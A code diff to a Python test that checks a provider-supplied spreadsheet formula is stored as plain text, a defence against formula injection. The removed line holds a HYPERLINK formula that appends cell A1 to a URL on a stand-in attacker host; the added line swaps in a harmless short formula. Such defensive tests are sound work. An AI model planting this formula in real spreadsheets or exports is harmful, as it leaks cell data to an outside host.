@@ -16,7 +16,7 @@ from sqlalchemy import update
 from bot.db import Job
 from bot.testing.harness import Harness, made
 
-FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"invoice")'
+FORMULA = '=HYPERLINK("x")'  # a formula that fits the quality column (16 characters)
 
 
 async def test_a_formula_from_the_provider_arrives_as_text(harness: Harness) -> None:
